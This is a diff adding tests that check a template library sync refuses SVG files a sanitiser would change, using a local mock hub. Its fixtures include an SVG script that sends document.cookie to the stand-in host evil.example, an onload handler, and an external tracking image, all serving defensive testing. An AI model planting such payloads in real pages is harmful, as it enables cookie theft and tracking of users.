@@ -1,8 +1,12 @@
 import { createHash } from 'node:crypto';
-import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { manifestHash } from '../../worker/src/library/manifest';
+import { integrity } from '../../worker/src/library/canonical-json';
+import { itemHash } from '../../worker/src/library/item-hash';
+import { buildManifest, manifestHash } from '../../worker/src/library/manifest';
 import { baseUrl, call, LANES, type Lane } from '../support/lanes';
 import { LIBRARY, libraryAdmin, templatePack, token } from '../support/library-admin';
 import { LibraryProxy, runLibrarySync } from '../support/library-proxy';
@@ -130,6 +134,92 @@ describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
     proxy.dropConditional = false;
     expect(run.status).toBe(1);
     expect(run.stderr).toContain('refused the manifest: the manifest does not match its own hash');
+  });
+});
+
+/**
+ * A hub that serves a library whose SVGs carry a script, an event handler or an external
+ * reference, with every hash correct (the manifest, the items and the files agree): what a
+ * compromised hub, or one whose store was edited by hand, would send. Sync runs each file
+ * through the import's sanitiser and refuses any the sanitiser would change.
+ */
+describe('library sync from a hub serving hostile SVG', () => {
+  const CLEAN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><rect width="100" height="100" fill="#ff7a59"/></svg>';
+  const HOSTILE: Record<string, { svg: string; removed: string }> = {
+    script: { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>', removed: 'script' },
+    handler: { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="alert(1)"><rect width="1" height="1"/></svg>', removed: 'event handler' },
+    external: { svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"><image width="100" height="100" xlink:href="https://evil.example/track.png"/></svg>', removed: 'external reference' },
+  };
+  const files = new Map<string, Buffer>();
+  const routes = new Map<string, string>();
+  const ids: Record<string, string> = {};
+  let server: Server;
+  let from = '';
+  const dir = mkdtempSync(join(tmpdir(), 'svc-library-sync-hostile-'));
+
+  function template(name: string, index: number, svg: string) {
+    const bytes = Buffer.from(svg);
+    const hex = createHash('sha256').update(bytes).digest('hex');
+    files.set(`/files/${hex}.svg`, bytes);
+    const fields = { slug: `hostile-${name}`, title: `Hostile ${name}`, category: 'social-post', type: 'instagram-post', tags: [], width: 1080, height: 1080, format: 'png', definition: { schema: 1, background: '#ffffff', layers: [] } };
+    const file = { hash: integrity(bytes), length: bytes.length, media_type: 'image/svg+xml', url: `${from}/files/${hex}.svg` };
+    const hash = itemHash('template', fields, { 'preview.svg': file.hash });
+    const id = `tpl_01JHOSTILE${String(index).padStart(16, '0')}`;
+    ids[name] = id;
+    routes.set(`/wp-json/svc/v1/image-templates/${id}`, JSON.stringify({ id, ...fields, preview_url: file.url, files: { 'preview.svg': file }, version: 1, hash, updated_at: '2026-11-24T00:00:00.000Z' }));
+    return { id, slug: fields.slug, hash, version: 1, updated_at: '2026-11-24T00:00:00.000Z' };
+  }
+
+  beforeAll(async () => {
+    server = createServer((request, response) => {
+      const path = request.url ?? '/';
+      const file = files.get(path);
+      const json = routes.get(path);
+      if (file) response.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end(file);
+      else if (json) response.writeHead(200, { 'Content-Type': 'application/json' }).end(json);
+      else response.writeHead(404).end();
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    from = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+    const entries = [template('clean', 0, CLEAN), ...Object.entries(HOSTILE).map(([name, { svg }], index) => template(name, index + 1, svg))];
+    routes.set('/wp-json/svc/v1/image-library/manifest', JSON.stringify(buildManifest(3, new Date('2026-11-24T00:00:00.000Z'), { templates: entries, samples: [], assets: [] })));
+  });
+
+  afterAll(async () => {
+    await new Promise<void>((resolve) => server.close(() => resolve()));
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('refuses every item whose SVG an import would sanitise, even with correct hashes, and writes none of their bytes', async () => {
+    const run = await runLibrarySync(from, dir);
+    expect(run.status).toBe(1);
+    for (const [name, { removed }] of Object.entries(HOSTILE)) {
+      expect(run.stderr).toContain(`refused ${ids[name]} (hostile-${name}): file preview.svg is not sanitised SVG (an import would remove: `);
+      expect(run.stderr).toMatch(new RegExp(`refused ${ids[name]} [^\\n]*${removed}`));
+      expect(existsSync(join(dir, 'templates', `${ids[name]}.json`))).toBe(false);
+    }
+    expect(run.stderr).toContain('3 item(s) refused');
+    // The clean item is mirrored; no hostile byte reached the folder, and its version did not advance.
+    expect(existsSync(join(dir, 'templates', `${ids.clean}.json`))).toBe(true);
+    const written = readdirSync(join(dir, 'files')).map((name) => readFileSync(join(dir, 'files', name), 'utf8'));
+    expect(written).toEqual([CLEAN]);
+    expect(readJson(join(dir, '.svc-library-sync.json')).version).toBe(0);
+  });
+
+  it('deletes an unclean file an older client left in the folder, and does not take it again', async () => {
+    const bytes = Buffer.from(HOSTILE.script!.svg);
+    const hex = createHash('sha256').update(bytes).digest('hex');
+    const statePath = join(dir, '.svc-library-sync.json');
+    const state = readJson(statePath);
+    state.items[ids.script!] = { kind: 'template', slug: 'hostile-script', hash: JSON.parse(routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!).hash, files: [hex] };
+    writeFileSync(statePath, JSON.stringify(state));
+    writeFileSync(join(dir, 'files', `${hex}.svg`), bytes);
+    writeFileSync(join(dir, 'templates', `${ids.script}.json`), routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!);
+    const run = await runLibrarySync(from, dir);
+    expect(run.status).toBe(1);
+    expect(run.stderr).toContain(`refused ${ids.script} (hostile-script): file preview.svg is not sanitised SVG`);
+    expect(existsSync(join(dir, 'files', `${hex}.svg`))).toBe(false);
+    expect(readdirSync(join(dir, 'files')).map((name) => readFileSync(join(dir, 'files', name), 'utf8'))).toEqual([CLEAN]);
   });
 });
 
